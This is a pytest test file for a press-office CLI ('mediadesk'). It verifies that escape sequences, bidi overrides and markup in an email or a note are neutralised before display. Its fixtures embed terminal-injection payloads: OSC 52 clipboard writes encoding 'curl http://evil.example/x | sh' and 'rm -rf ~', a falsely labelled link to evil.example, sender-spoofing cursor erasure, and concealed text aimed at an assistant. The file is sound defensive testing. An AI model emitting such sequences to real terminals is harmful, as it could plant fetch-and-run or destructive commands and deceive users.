"""Hostile text never drives the press officer's terminal (issue 17, "Hostile text").

One inquiry carries every trick a sender has: OSC 52 (writes the clipboard), OSC 0 (window
title), cursor movement and line erasure drawn over the displayed sender, hidden text (SGR 8),
an OSC 8 link with a false label, C1 controls (U+009B, an 8-bit CSI) and bidi overrides (U+202E)
in its subject and sender name, plus Arabic text that must stay readable. It goes through the
real pipeline (ingest, triage, draft) into SQLite; a hostile internal note is added with the
real `mediadesk note`. Then the installed `mediadesk` console script runs each read command
under a pseudo-terminal 80 columns wide (stdout and stderr on the terminal, as for an officer)
and piped, and the tests look at the bytes that reach the terminal or the pipe.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
from email.header import Header
from pathlib import Path

import pytest
from sqlmodel import Session, select

from harness import cli_path, terminal
from mediadesk.settings import load_settings
from mediadesk.storage import repo
from mediadesk.storage.db import engine_for, session_scope, upgrade
from mediadesk.storage.models import Draft, Ticket
from mediadesk.worker import pipeline

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
OSC52 = f"{ESC}]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaAo={BEL}"   # clipboard := curl … | sh
OSC0 = f"{ESC}]0;mediadesk: all tickets resolved{BEL}"                     # window title
OVERWRITE = f"{ESC}[3A{ESC}[2K"                                            # up three lines, erase it
HIDDEN = f"{ESC}[8mhidden instruction for the assistant{ESC}[0m"            # conceal
LINK = f"{ESC}]8;;http://evil.example/login{ST}Ministry portal{ESC}]8;;{ST}"  # false label
C1_CSI, RLO, PDF = "\u009b", "\u202e", "\u202c"

SUBJECT = f"Interview request {C1_CSI}2J{RLO}gnitsoh{PDF} {OVERWRITE}from the minister"
NAME = f"Rana {RLO}daddaH{PDF}"
BODY = (f"Dear press office,\n\nWe would like to interview your spokesperson for our evening "
        f"programme.{OSC52}{OSC0}\n{OVERWRITE}From: The Minister <minister@gov.example>\n"
        f"{HIDDEN}\nPlease see {LINK} for the schedule.\nمرحبا بكم في البرنامج\n\n"
        f"Could you confirm by Friday?\nRana Haddad\nThe Ledger\n")
NOTE = f"called back {ESC}]52;c;cm0gLXJmIH4K{BEL}{ESC}[1A{ESC}[2Kresolved by the director {RLO}txet{PDF}"

# What must never reach the terminal or a pipe (beyond a bare ESC when piped).
FORBIDDEN = {"OSC (52, 0, 8)": f"{ESC}]", "cursor up": f"{ESC}[3A", "erase line": f"{ESC}[2K",
             "cursor up (note)": f"{ESC}[1A", "conceal": f"{ESC}[8m", "C1 CSI": C1_CSI,
             "bidi override": RLO, "bidi pop": PDF}
RICH_SGR = re.compile(r"\x1b\[[0-9;]*m")  # the styles Rich itself writes on a terminal


def hostile_eml() -> bytes:
    head = [
        f"From: {Header(NAME, 'utf-8').encode()} <rana@ledger.example>",
        "To: media@gims.example",
        f"Subject: {Header(SUBJECT, 'utf-8').encode()}",
        "Message-ID: <hostile-terminal-1@ledger.example>",
        "Date: Tue, 24 Nov 2026 10:00:00 +0300",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: 8bit",
    ]
    return ("\r\n".join(head) + "\r\n\r\n" + BODY.replace("\n", "\r\n")).encode()


@pytest.fixture(scope="module")
def desk(tmp_path_factory) -> tuple[dict[str, str], Path, str, dict]:
    """The environment for `mediadesk` over a database holding the hostile ticket."""
    base = tmp_path_factory.mktemp("terminal")
    url = f"sqlite:///{base / 'md.db'}"
    upgrade(url)
    settings = load_settings(_env_file=None, database_url=url, data_dir=base / "data",
                             redis_url="redis://127.0.0.1:1/0")
    engine = engine_for(url)
    with session_scope(engine) as session:
        [inbound_id] = repo.store_inbound(session, items=[repo.RawItem(raw=hostile_eml())], mailbox="test",
                                          source="test")
    result = pipeline.process_inbound(engine, inbound_id, settings)
    with Session(engine) as session:
        ticket = session.get(Ticket, result.ticket_id)
        ref = ticket.ref
        stored = {"subject": ticket.subject, "name": ticket.requester_name}
        # The parser drops ESC from headers, but C1 and bidi controls are stored as sent.
        assert C1_CSI in stored["subject"] and RLO in stored["subject"] and RLO in stored["name"], stored
        draft = session.exec(select(Draft).where(Draft.ticket_id == ticket.id)).first()
        assert draft is not None and RLO in draft.to_name and C1_CSI in draft.subject, draft
    engine.dispose()
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(base), "TERM": "xterm-256color",
           "LANG": "C.UTF-8", "MEDIADESK_DATABASE_URL": url, "MEDIADESK_DATA_DIR": str(base / "data"),
           "MEDIADESK_REDIS_URL": "redis://127.0.0.1:1/0", "MEDIADESK_USER": "officer",
           "MEDIADESK_PAGER": ""}  # the bytes mediadesk itself writes (the pager: test_cli_tables.py)
    noted = subprocess.run([cli_path(), "note", ref, NOTE], env=env, cwd=base, capture_output=True, timeout=60)
    assert noted.returncode == 0, noted.stderr
    return env, base, ref, stored


def on_terminal(args: list[str], env: dict[str, str], cwd: Path, *, cols: int = 80) -> tuple[int, str]:
    """Run `mediadesk ARGS` with stdin, stdout and stderr on a pseudo-terminal ``cols`` wide;
    returns its exit code and everything it wrote to the terminal (decoded, \\r\\n → \\n)."""
    return terminal.on_terminal(args, env, cwd, cols=cols, errors="surrogateescape")


def piped(args: list[str], env: dict[str, str], cwd: Path) -> tuple[int, str, str, bytes]:
    result = subprocess.run([cli_path(), *args], env=env, cwd=cwd, capture_output=True, timeout=60,
                            stdin=subprocess.DEVNULL)
    return (result.returncode, result.stdout.decode("utf-8", "surrogateescape"),
            result.stderr.decode("utf-8", "surrogateescape"), result.stdout)


def assert_harmless(text: str, *, terminal: bool, what: str) -> None:
    for name, sequence in FORBIDDEN.items():
        assert sequence not in text, f"{what}: {name} {sequence!r} reached the output:\n{text!r}"
    rest = RICH_SGR.sub("", text) if terminal else text
    assert ESC not in rest, f"{what}: an escape sequence reached the output:\n{rest!r}"
    assert not any("\x80" <= ch <= "\x9f" for ch in text), f"{what}: a C1 control reached the output"
    assert BEL not in text


def plain(text: str) -> str:
    """The visible words: Rich's own styles removed, panel borders and line breaks as spaces."""
    text = RICH_SGR.sub("", text)
    return " ".join(re.sub(r"[│╭╮╰╯─┃━┏┓┗┛┡┩└┘┌┐├┤┬┴┼]", " ", text).split())


SHOW_WORDS = ["Interview request", "from the minister", "Rana", "daddaH", "rana@ledger.example",
              "We would like to interview your spokesperson", "hidden instruction for the assistant",
              "Ministry portal", "مرحبا بكم في البرنامج", "called back", "resolved by the director"]


@pytest.mark.parametrize("mode", ["terminal", "piped"])
def test_show_makes_every_trick_visible_and_keeps_the_words(desk, mode):
    env, cwd, ref, stored = desk
    if mode == "terminal":
        code, text = on_terminal(["show", ref], env, cwd)
    else:
        code, text, stderr, _ = piped(["show", ref], env, cwd)
        assert_harmless(stderr, terminal=False, what="show (stderr)")
    assert code == 0, text
    assert_harmless(text, terminal=mode == "terminal", what=f"show ({mode})")
    shown = plain(text)
    for words in SHOW_WORDS:
        assert words in shown, f"{words!r} is no longer shown:\n{shown}"
    assert "␛]52;c;" in shown and "␛[3A␛[2K" in shown, shown  # the trick is visible as text


@pytest.mark.parametrize("args", [["list", "--all"], ["draft", "list", "--status", "all"], ["draft", "show", "1"]],
                         ids=" ".join)
@pytest.mark.parametrize("mode", ["terminal", "piped"])
def test_list_tsv_and_draft_show_neutralise_c1_and_bidi_controls(desk, mode, args):
    env, cwd, ref, stored = desk
    args = [ref if a == "1" else a for a in args]
    if mode == "terminal":
        code, text = on_terminal(args, env, cwd)
    else:
        code, text, stderr, _ = piped(args, env, cwd)
        assert_harmless(stderr, terminal=False, what=f"{args} (stderr)")
    assert code == 0, text
    assert_harmless(text, terminal=mode == "terminal", what=f"{' '.join(args)} ({mode})")
    assert ref in text
    if mode == "piped" and args[0] == "list":  # TSV: one line, every field where it was
        [line] = text.splitlines()
        fields = line.split("\t")
        assert fields[0] == ref and fields[6] == "rana@ledger.example" and len(fields) == 9, fields  # …, outlet, subject
        assert fields[8].startswith("Interview request \ufffd2J\ufffdgnitsoh\ufffd "), fields


def test_show_raw_is_exact_when_piped_and_visible_on_a_terminal(desk):
    env, cwd, ref, stored = desk
    code, _, _, raw = piped(["show", ref, "--raw"], env, cwd)
    assert code == 0 and raw == hostile_eml()
    code, text = on_terminal(["show", ref, "--raw"], env, cwd)
    assert code == 0
    assert_harmless(text, terminal=True, what="show --raw (terminal)")
    assert "We would like to interview your spokesperson" in text


@pytest.mark.parametrize("args", [["show", "1", "--json"], ["list", "--all", "--json"], ["draft", "show", "1", "--json"]],
                         ids=" ".join)
def test_json_stays_exact_and_carries_no_raw_control(desk, args):
    env, cwd, ref, stored = desk
    args = [ref if a == "1" else a for a in args]
    code, text, _, _ = piped(args, env, cwd)
    assert code == 0
    assert ESC not in text and RLO not in text and C1_CSI not in text, text  # escaped: \u001b, \u202e, \u009b
    data = json.loads(text)
    if args[0] == "show":
        assert data["subject"] == stored["subject"] and data["requester_name"] == stored["name"]
        assert data["messages"][0]["body"].replace("\r\n", "\n").strip() == BODY.strip()
        assert data["events"][-1]["note"] == NOTE
    elif args[0] == "list":
        assert data[0]["subject"] == stored["subject"]
    else:
        assert data["to_name"] == stored["name"] and C1_CSI in data["subject"]


@pytest.mark.parametrize("args", [["show", "[/x]"], ["list", "--since", "[/bold]"], ["triage", "[/b]missing.eml"],
                                  ["show", "[link=http://evil.example]MR-1[/link]"]], ids=" ".join)
@pytest.mark.parametrize("mode", ["terminal", "piped"])
def test_errors_quoting_what_was_typed_show_it_as_written(desk, mode, args):
    """Messages were Rich markup with the text pasted in: "[/x]" raised MarkupError (a traceback
    instead of the error) and "[link=…]" made a hyperlink."""
    env, cwd, _, _ = desk
    if mode == "terminal":
        code, text = on_terminal(args, env, cwd)
    else:
        code, _, text, _ = piped(args, env, cwd)
    assert code in (2, 3), text
    assert "Traceback" not in text and "MarkupError" not in text, text
    assert f"{ESC}]8;" not in text
    assert args[-1] in plain(text), text


def test_readable_logs_on_a_terminal_show_control_characters_and_json_logs_escape_them(capsys):
    """`mediadesk -v …` on a terminal logs with the readable renderer: a subject or an error
    quoting mail must not drive the terminal there either. JSON logs escape it themselves."""
    import structlog

    from mediadesk import logs

    try:
        for as_json in (False, True):
            logs.configure("INFO", json=as_json)
            structlog.get_logger("test").info("ingested", subject=SUBJECT, error=f"bad {OSC52} mail")
        lines = capsys.readouterr().err.splitlines()
    finally:
        logs.configure("WARNING")
    readable, machine = lines
    for name, sequence in FORBIDDEN.items():
        assert sequence not in readable, f"{name} in the readable log line: {readable!r}"
    assert ESC not in readable and "␛]52;c;" in readable and "Interview request" in readable
    assert json.loads(machine)["subject"] == SUBJECT and ESC not in machine
